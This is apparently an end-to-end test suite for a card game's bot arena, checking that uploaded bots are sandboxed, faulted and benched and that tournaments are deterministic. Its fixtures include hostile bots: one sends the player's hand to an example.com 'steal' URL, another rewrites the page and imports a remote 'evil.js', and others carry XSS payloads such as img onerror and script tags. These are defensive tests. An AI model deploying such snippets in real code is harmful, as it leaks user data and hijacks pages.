// The bot arena of the shedding game (dist/arena, built by build_arena in
// scripts/install-tools.sh): loading bots (file picker, drag and drop,
// kept across reloads), hostile bots faulted and benched with the page
// responsive (S47–S61), an 80-game tournament of four bots, the same
// tournament twice giving the same results (S79), `sample` playing exactly
// as `tenace shed play`, a practice game played by keyboard with the test
// hooks, pause on fault, the replay viewer, untrusted text shown as text,
// and the bot-author page in six languages.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { pathToFileURL } from 'node:url';

const ARENA = 'arena/index.html';

async function open(ctx, query = '') {
  await ctx.page.goto(`${ctx.url}${ARENA}${query}`);
  await ctx.page.waitForSelector('body[data-ready="1"]', { timeout: 30000 });
}

function file(name, code) {
  return { name, mimeType: 'text/javascript', buffer: Buffer.from(code) };
}

async function load(page, files, expectBots) {
  await page.setInputFiles('[data-testid=arena-load]', files);
  await page.waitForFunction((n) => document.querySelectorAll('#bot-list li[data-bot]').length >= n, expectBots, { timeout: 30000 });
}

function sampleCopies(ctx, n) {
  const code = fs.readFileSync(path.join(ctx.dist, 'arena', 'bots', 'sample.js'), 'utf8');
  return Array.from({ length: n }, (_, i) => file(`sample${i}.js`, `${code}\n// copy ${i}\n`));
}

/** Runs the tournament as set up on the page; resolves with results.json and the CSV as text. */
async function runTournament(page, { deals, seed, players = 4, decideMs, gameS, format, rounds } = {}) {
  if (deals !== undefined) await page.fill('#t-deals', String(deals));
  if (seed !== undefined) await page.fill('#t-seed', String(seed));
  await page.selectOption('#t-players', String(players));
  if (decideMs !== undefined) await page.fill('#t-decide', String(decideMs));
  if (gameS !== undefined) await page.fill('#t-game', String(gameS));
  if (format !== undefined) await page.selectOption('#t-format', format);
  if (rounds !== undefined) await page.fill('#t-rounds', String(rounds));
  await page.evaluate(() => {
    delete document.getElementById('t-done').dataset.done;
  });
  await page.click('[data-testid=arena-run]');
  await page.waitForFunction(() => document.getElementById('t-done').dataset.done, null, { timeout: 240000 });
  const json = await page.evaluate(() => window.__arena.tournament.resultsJson);
  const csv = await page.evaluate(() => window.__arena.tournament.csv);
  return { json, csv, results: JSON.parse(json) };
}

const HOSTILE = {
  'loop.js': `export const meta = { name: 'loop' };
export default function decide(state) { for (;;) {} }`,
  'fetcher.js': `export const meta = { name: 'fetcher' };
export default async function decide(state) { await fetch('https://example.com/steal?' + state.hand.join()); return state.legal[0]; }`,
  'dom.js': `export const meta = { name: 'dom' };
let calls = 0;
export default function decide(state) {
  calls += 1;
  if (calls % 2) document.body.innerHTML = '<b>owned</b>';
  importScripts('https://example.com/evil.js');
  return state.legal[0];
}`,
  'thrower.js': `export const meta = { name: 'thrower' };
export default function decide(state) { throw new Error('boom'); }`,
  'illegal.js': `export const meta = { name: 'illegal' };
export default function decide(state) { return { do: 'play', card: 'ZZ' }; }`,
  'nonaction.js': `export const meta = { name: 'nonaction' };
let k = 0;
export default function decide(state) { k += 1; return [42, undefined, () => 1, 'end'][k % 4]; }`,
  'slow.js': `export const meta = { name: 'slow' };
export default async function decide(state) { await new Promise((r) => setTimeout(r, 350)); return state.legal[0]; }`,
};

export const tests = [
  [
    'arena: hostile bots are faulted and benched, the page stays responsive (S47–S61)',
    async (ctx) => {
      const { page } = ctx;
      await open(ctx);
      // A bot that imports is refused at load time (S47), with the line.
      await page.setInputFiles('[data-testid=arena-load]', [file('importer.js', `// reads a helper\nimport x from './x.js';\nexport default () => x;`)]);
      await page.waitForFunction(() => document.getElementById('status').textContent.includes('importer.js:'), null, { timeout: 10000 });
      const refusal = await page.textContent('#status');
      assert.match(refusal, /S47/);
      assert.match(refusal, /line 2/);
      // So is a module with no decide (S48), and a file over 256 KB.
      await page.setInputFiles('[data-testid=arena-load]', [file('nodecide.js', 'export const meta = { name: "x" };')]);
      await page.waitForFunction(() => document.getElementById('status').textContent.includes('nodecide.js:'), null, { timeout: 10000 });
      assert.match(await page.textContent('#status'), /S48/);
      await page.setInputFiles('[data-testid=arena-load]', [file('big.js', `export default (s) => s.legal[0];\n//${'x'.repeat(270000)}`)]);
      await page.waitForFunction(() => document.getElementById('status').textContent.includes('big.js:'), null, { timeout: 10000 });
      assert.match(await page.textContent('#status'), /256/);
      await load(page, Object.entries(HOSTILE).map(([name, code]) => file(name, code)), 7);
      // Random tables of two, one table round: every hostile bot plays two games.
      const started = Date.now();
      const run = page.evaluate(() => 1);
      await run;
      const tournament = runTournament(page, { deals: 1, seed: 7, players: 2, decideMs: 250, gameS: 1, format: 'random', rounds: 1 });
      // While the bots loop, the page answers at once.
      await page.waitForTimeout(400);
      for (let i = 0; i < 3; i += 1) {
        const t0 = Date.now();
        await page.evaluate(() => document.title);
        assert.ok(Date.now() - t0 < 1000, 'the page answers while bots loop');
        await page.click('#practice-new-seed');
        await page.waitForTimeout(200);
      }
      const { results } = await tournament;
      assert.ok(Date.now() - started < 120000);
      const byName = Object.fromEntries(results.entrants.map((e, i) => [e.name, i]));
      const faults = {};
      for (const g of results.games) {
        for (const f of g.figures.faults) {
          const seat = f.seat;
          const rec = g.record;
          const name = rec.bots[seat];
          (faults[name] ||= []).push(f.kind);
        }
        for (const s of g.figures.seats) {
          if (s.entrant === byName.loop || s.entrant === byName.thrower || s.entrant === byName.illegal) {
            assert.equal(s.benched, true, 'three faults bench a bot (S60)');
          }
        }
        // Every game still ends and checks.
        assert.ok(g.record.result, 'the game ends');
      }
      assert.ok(faults.loop.every((k) => k === 'timeout') && faults.loop.length >= 3, `loop: ${faults.loop}`);
      assert.ok(faults.fetcher.includes('rejected'), `fetcher: ${faults.fetcher}`);
      assert.ok(faults.dom.includes('exception'), `dom: ${faults.dom}`);
      assert.ok(faults.thrower.includes('exception'), `thrower: ${faults.thrower}`);
      assert.ok(faults.illegal.includes('illegal'), `illegal: ${faults.illegal}`);
      assert.ok(faults.nonaction.includes('not_an_action'), `nonaction: ${faults.nonaction}`);
      assert.ok(faults.slow.includes('budget') || faults.slow.includes('timeout'), `slow: ${faults.slow}`);
      assert.equal(results.time_faults, true, 'S79: the results say a time limit was exceeded');
      // The DOM bot changed nothing on the page; the details of the faults are text.
      assert.equal(await page.locator('b:text("owned")').count(), 0);
      const standings = await page.$$eval('[data-testid=standings] tbody tr', (rows) => rows.map((r) => [...r.children].map((c) => c.textContent)));
      assert.equal(standings.length, 7);
      for (const row of standings) assert.ok(Number(row[7]) > 0, `every hostile bot has faults: ${row}`);
      if (ctx.cli) {
        const lines = results.games.map((g) => JSON.stringify(g.record)).join('\n');
        const out = execFileSync(ctx.cli, ['shed', 'check', '-'], { input: lines, encoding: 'utf8' });
        const n = results.games.length;
        assert.equal(n, 8, 'seven entrants in tables of two: four tables, two rotations');
        assert.match(out, new RegExp(`shed check: ${n}/${n} games valid`), out);
      }
    },
  ],
  [
    'arena: four bots play an 80-game tournament; standings, results.json and the CSV',
    async (ctx) => {
      const { page } = ctx;
      await open(ctx);
      await page.click('#add-examples');
      await page.waitForFunction(() => document.querySelectorAll('#bot-list li[data-bot]').length === 4, null, { timeout: 30000 });
      // The library is kept across a reload (IndexedDB).
      await open(ctx);
      assert.equal(await page.locator('#bot-list li[data-bot]').count(), 4);
      const t0 = Date.now();
      const { results, csv, json } = await runTournament(page, { deals: 20, seed: 2024 });
      const seconds = (Date.now() - t0) / 1000;
      ctx.metrics['arena 80-game tournament (4 example bots)'] = `${seconds.toFixed(1)} s wall`;
      assert.equal(results.games.length, 80);
      assert.equal(await page.getAttribute('[data-testid=arena-progress]', 'value'), '80');
      const rows = await page.$$eval('[data-testid=standings] tbody tr', (r) => r.length);
      assert.equal(rows, 4);
      assert.equal(csv.trim().split('\n').length, 1 + 80 * 4);
      assert.deepEqual(results.entrants.map((e) => e.name), ['sample', 'cautious', 'hunter', 'counter']);
      for (const e of results.entrants) assert.match(e.sha256, /^[0-9a-f]{64}$/);
      // Every entrant played every deal set from every seat (S69).
      for (let e = 0; e < 4; e += 1) {
        const seats = new Set(results.games.filter((g) => g.record.deal_set === 3).map((g) => g.record.seating.indexOf(e)));
        assert.equal(seats.size, 4);
      }
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('#download-json')]);
      const saved = path.join(ctx.artifacts, 'arena-results.json');
      await download.saveAs(saved);
      assert.equal(JSON.parse(fs.readFileSync(saved, 'utf8')).games.length, 80);
      // The files are made when first asked for (or read): the same text either way.
      assert.equal(fs.readFileSync(saved, 'utf8'), json);
      const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.click('#download-csv')]);
      assert.equal(csvDownload.suggestedFilename(), 'results.csv');
      const csvSaved = path.join(ctx.artifacts, 'arena-results.csv');
      await csvDownload.saveAs(csvSaved);
      assert.equal(fs.readFileSync(csvSaved, 'utf8'), csv);
      if (ctx.cli) {
        const lines = results.games.map((g) => JSON.stringify(g.record)).join('\n');
        const out = execFileSync(ctx.cli, ['shed', 'check', '-'], { input: lines, encoding: 'utf8' });
        assert.match(out, /shed check: 80\/80 games valid/);
      }
      // The replay viewer shows any game from its record.
      await page.selectOption('#games-pick', '17');
      await page.click('#games-replay');
      await page.waitForSelector('#replay-table [data-testid=top]');
      assert.match(await page.textContent('#replay-frame'), /1\D+\d+/);
      await page.click('#replay-next');
      await page.click('#replay-next');
      const event = await page.textContent('#replay-table .event');
      assert.ok(event.length > 3);
      await page.click('#replay-last');
      assert.ok((await page.textContent('#replay-table')).length > 20);
      // A tampered record is refused with the rule.
      const rec = results.games[17].record;
      rec.rounds[0].end.points[0] += 10;
      await page.fill('#replay-paste', JSON.stringify(rec));
      await page.click('#replay-show');
      await page.waitForSelector('#replay-table .fault');
      assert.match(await page.textContent('#replay-table .fault'), /S29/);
      await ctx.shot('arena-tournament.png');
    },
  ],
  [
    'arena: the same tournament twice gives the same results (S79); sample plays as tenace shed play',
    async (ctx) => {
      const { page } = ctx;
      await open(ctx);
      // Copy 0 also checks the state it is given: the rules and the names,
      // which the table's message leaves to the worker (a placeholder 0 in
      // the delta), are there, in their place, and a fresh copy each call
      // (it changes them; S52). A failed check throws: a fault, a fallback
      // action, and games that differ from tenace shed play's.
      const copies = sampleCopies(ctx, 4);
      copies[0] = file(
        'sample0.js',
        copies[0].buffer
          .toString()
          .replace('export default function decide(state) {', 'export default function decide(state) {\n  check(state);') +
          `
function check(state) {
  const keys = Object.keys(state);
  if (keys[1] !== 'rules' || keys[keys.length - 1] !== 'log') throw new Error('keys ' + keys);
  if (state.rules.preset !== 'contest' || state.rules.hand_size !== 5 || state.rules.lose_above !== 125) throw new Error('rules ' + JSON.stringify(state.rules));
  state.rules.hand_size = 99;
  for (const p of state.players) if (!/^sample( \\(\\d\\))?#\\d$/.test(p.name)) throw new Error('name ' + JSON.stringify(p));
  state.players[0].name = 'changed';
  if (Object.keys(state.players[0])[1] !== 'name') throw new Error('player keys');
}
`,
      );
      // Copies 1 and 2 declare, at their top level, functions named as the
      // globals their bootstrap uses (copy 2: `globalThis` too, so its start
      // falls back to the bootstrap importing the module): in one script
      // with the bootstrap (table-worker.js) these names must not reach it.
      // Each checks, through the global object (`globalThis`, or `self` for
      // copy 2), that its sandbox holds (S50, S51, and no seed in sight: S55)
      // and plays an illegal card if not.
      const SHADOWED = [
        'self', 'Object', 'Function', 'Array', 'String', 'Number', 'Boolean', 'Symbol', 'Error', 'TypeError', 'JSON', 'Math',
        'Date', 'Promise', 'Map', 'Set', 'Reflect', 'RegExp', 'Blob', 'URL', 'console', 'performance', 'crypto', 'navigator',
        'setTimeout', 'setInterval', 'clearTimeout', 'DedicatedWorkerGlobalScope', 'WorkerGlobalScope', 'undefined', 'NaN',
        'Infinity', 'postMessage', 'addEventListener', 'fetch', 'importScripts', 'Worker', 'isNaN', 'parseInt',
      ];
      const shadowing = (i, names, root) =>
        file(
          `sample${i}.js`,
          copies[i].buffer
            .toString()
            .replaceAll('Math.', `${root}.Math.`)
            .replace('export default function decide(state) {', 'export default function decide(state) {\n  if (!sandboxed()) return { do: "play", card: "ZZ" };') +
            `
${names.map((n) => `function ${n}() { return "the bot's ${n}"; }`).join('\n')}
function sandboxed() {
  const g = ${root};
  if (g.Date.now() !== 0 || g.performance.now() !== 1 || new g.Date().constructor !== g.Date) return false;
  // The worker's name carried the seed: no way to read it is left (S55).
  const own = g.Object.getOwnPropertyDescriptor(g, 'name');
  const inherited = g.Object.getOwnPropertyDescriptor(g.Object.getPrototypeOf(g), 'name');
  if (/\\d/.test(g.name) || (own && /\\d/.test(own.get ? own.get.call(g) : own.value)) || (inherited && /\\d/.test(inherited.get.call(g)))) return false;
  for (const f of ['fetch', 'importScripts', 'Worker']) {
    try {
      if (f === 'Worker') new g.Worker('x.js');
      else g[f]('https://example.com/');
      return false;
    } catch (e) {
      if (!/S50/.test(e.message)) return false;
    }
  }
  return true;
}
`,
        );
      copies[1] = shadowing(1, SHADOWED, 'globalThis');
      copies[2] = shadowing(2, [...SHADOWED.filter((n) => n !== 'self'), 'globalThis'], 'self');
      await load(page, copies, 4);
      const first = await runTournament(page, { deals: 3, seed: 99 });
      for (const g of first.results.games) assert.deepEqual(g.figures.faults, [], 'the state is whole');
      const second = await runTournament(page, { deals: 3, seed: 99 });
      assert.equal(first.json, second.json, 'bit for bit');
      assert.equal(first.results.time_faults, false);
      if (ctx.cli) {
        const out = execFileSync(ctx.cli, ['shed', 'play', '--seed', '99', '--games', '12', '--bots', 'sample'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
        const cli = out.trim().split('\n').map((l) => JSON.parse(l));
        assert.equal(cli.length, 12);
        cli.forEach((c, i) => {
          const a = { ...first.results.games[i].record };
          for (const r of [a, c]) {
            delete r.names;
            delete r.bots;
          }
          assert.deepEqual(a, c, `game ${i}: the JavaScript sample makes the Rust sample's choices`);
        });
      }
    },
  ],
  [
    'arena: a practice game against the robots, by keyboard, with the test hooks',
    async (ctx) => {
      const { page } = ctx;
      await open(ctx);
      await page.selectOption('#practice-players', '3');
      await page.selectOption('#seat-0', 'human');
      await page.fill('#practice-seed', '5');
      await page.selectOption('#practice-speed', '0');
      await page.click('#practice-start');
      await page.click('#practice-run');
      let moves = 0;
      for (let i = 0; i < 400 && moves < 25; i += 1) {
        const over = await page.evaluate(() => window.__arena.practice && window.__arena.practice.over);
        if (over) break;
        const mine = await page.$('#practice-table [data-testid=hand-0] button[data-card]');
        const act = await page.$('#practice-table [data-action]');
        if (!mine && !act) {
          await page.waitForTimeout(100);
          continue;
        }
        for (const id of ['top', 'stock', 'scores', 'hand-1', 'hand-2']) assert.ok(await page.$(`#practice-table [data-testid=${id}]`), id);
        if (mine) {
          await mine.focus();
          await page.keyboard.press('Enter');
          if (await page.$('#practice-suit [data-suit]')) {
            await page.focus('#practice-suit [data-suit=H]');
            await page.keyboard.press('Enter');
          }
        } else {
          const what = await act.getAttribute('data-action');
          assert.ok(['draw', 'end', 'bridge'].includes(what));
          await act.focus();
          await page.keyboard.press('Enter');
        }
        moves += 1;
        await page.waitForTimeout(80);
      }
      assert.ok(moves > 3, `played ${moves} moves`);
      await ctx.shot('arena-practice.png');
      // A 360 px phone: nothing wider than the screen.
      await page.setViewportSize({ width: 360, height: 780 });
      await page.waitForTimeout(200);
      const width = await page.evaluate(() => document.scrollingElement.scrollWidth);
      assert.ok(width <= 362, `the arena fits 360 px (scroll width ${width})`);
      await ctx.shot('arena-practice-360.png');
    },
  ],
  [
    'arena: pause on fault shows the state, the value and the error, then resumes with the fallback',
    async (ctx) => {
      const { page } = ctx;
      await open(ctx);
      await load(page, [file('thrower.js', HOSTILE['thrower.js'])], 1);
      await page.selectOption('#practice-players', '2');
      const sha = await page.getAttribute('#bot-list li[data-bot]', 'data-bot');
      await page.selectOption('#seat-0', sha);
      await page.selectOption('#seat-1', 'sample');
      await page.check('#practice-pause');
      await page.check('#practice-debug');
      await page.click('#practice-start');
      await page.click('#practice-run');
      await page.waitForSelector('#practice-fault .fault', { timeout: 20000 });
      const text = await page.textContent('#practice-fault');
      assert.match(text, /boom/);
      assert.match(text, /exception/);
      assert.ok(await page.$('#practice-fault details pre'), 'the state sent to the bot');
      const stateText = await page.textContent('#practice-fault details pre');
      assert.ok(JSON.parse(stateText).debug, 'practice with hidden cards shown: the state has debug (S52)');
      // Three faults and the bot is benched (S60): each one pauses the game until resumed.
      for (let i = 0; i < 3 && !/S60/.test(await page.textContent('#practice-fault')); i += 1) {
        await page.click('#practice-resume');
        await page.waitForFunction(() => /S60/.test(document.getElementById('practice-fault').textContent) || document.getElementById('practice-resume'), null, { timeout: 20000 });
      }
      assert.match(await page.textContent('#practice-fault'), /S60/);
      await page.waitForFunction(() => document.querySelectorAll('#practice-log li').length > 0);
    },
  ],
  [
    'arena: names, remarks and errors from bots are text, never HTML',
    async (ctx) => {
      const { page } = ctx;
      await open(ctx);
      const evil = `export const meta = { name: '<img src=x onerror="window.__pwned=1">', author: '<script>window.__pwned=2</script>' };
export default function decide(s) { const a = { ...s.legal[0], say: '<img src=y onerror="window.__pwned=3">' }; return a; }`;
      await load(page, [file('evil.js', evil)], 1);
      assert.match(await page.textContent('#bot-list'), /<img src=x/);
      await page.selectOption('#practice-players', '2');
      const sha = await page.getAttribute('#bot-list li[data-bot]', 'data-bot');
      await page.selectOption('#seat-0', sha);
      await page.click('#practice-start');
      await page.click('#practice-run');
      await page.waitForFunction(() => /onerror/.test(document.getElementById('practice-log').textContent), null, { timeout: 20000 });
      assert.equal(await page.evaluate(() => window.__pwned), undefined);
      assert.equal(await page.locator('#practice-log img, #bot-list img, #practice-table img').count(), 0);
    },
  ],
  [
    'arena: drag and drop, the bot-author page in six languages, template and examples',
    async (ctx) => {
      const { page } = ctx;
      await open(ctx, '?lang=de');
      assert.equal(await page.getAttribute('html', 'lang'), 'de');
      const code = fs.readFileSync(path.join(ctx.dist, 'arena', 'bots', 'cautious.js'), 'utf8');
      const dt = await page.evaluateHandle((text) => {
        const d = new DataTransfer();
        d.items.add(new File([text], 'dropped.js', { type: 'text/javascript' }));
        return d;
      }, code);
      await page.dispatchEvent('#drop', 'drop', { dataTransfer: dt });
      await page.waitForFunction(() => document.querySelectorAll('#bot-list li[data-bot]').length === 1, null, { timeout: 20000 });
      assert.match(await page.textContent('#bot-list'), /cautious/);
      await page.goto(`${ctx.url}arena/author.html`);
      await page.waitForSelector('body[data-ready="1"]');
      const headings = {};
      for (const lang of ['en', 'et', 'lt', 'de', 'fr', 'ru']) {
        await page.selectOption('#lang', lang);
        headings[lang] = await page.textContent('h1');
        assert.ok((await page.textContent('main')).length > 1500, `${lang}: the interface is described`);
      }
      assert.equal(new Set(Object.values(headings)).size, 6, JSON.stringify(headings));
      const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid=template-download]')]);
      const saved = path.join(ctx.artifacts, 'template.js');
      await download.saveAs(saved);
      assert.match(fs.readFileSync(saved, 'utf8'), /export default function decide/);
      assert.equal(await page.locator('[data-example]').count(), 4);
      assert.match(await page.textContent('#state-example'), /"bridge_run": 3/);
    },
  ],
  [
    'arena: the app links to the arena',
    async (ctx) => {
      const { page } = ctx;
      await page.goto(ctx.url);
      await page.waitForSelector('[data-testid=nav-arena]', { timeout: 30000 });
      await page.click('[data-testid=nav-arena]');
      await page.waitForSelector('body[data-ready="1"]', { timeout: 30000 });
      assert.match(page.url(), /arena\/$/);
      await page.click('a[href="../"]');
      await page.waitForSelector('[data-testid=nav-arena]', { timeout: 30000 });
    },
  ],
  [
    'arena: mulberry32 (sandbox.js) agrees with the engine; the import check (imports.js)',
    async (ctx) => {
      const mod = await import(pathToFileURL(path.join(ctx.dist, 'arena', 'sandbox.js')).href);
      const { findImport } = await import(pathToFileURL(path.join(ctx.dist, 'arena', 'imports.js')).href);
      const r = mod.mulberry32(1);
      // The same numbers as crates/tenace-shedding/src/mulberry.rs's test.
      assert.deepEqual([0, 1, 2, 3].map(() => Math.floor(r() * 4294967296)), [2693262067, 11749833, 2265367787, 4213581821]);
      assert.equal(Math.floor(mod.mulberry32(0xdeadbeef)() * 4294967296), 4043151706);
      const f = findImport;
      assert.equal(f('export default (s) => s.legal[0];'), 0);
      assert.equal(f('// import x from "y"\nconst s = "import"; const r = /import/; x.import = 1; const t = `import ${1}`;'), 0);
      assert.equal(f('const a = 1;\nimport("https://x")'), 2);
      assert.equal(f('const u = import.meta.url;'), 1);
      assert.equal(f('const t = `${ (() => { return import("x") })() }`;'), 1);
      assert.equal(f('a = b / c; import x from "y"'), 1);
      assert.equal(f('im\\u0070ort("x")'), 1, 'an escaped keyword is still found (no \\u in names)');
    },
  ],
];
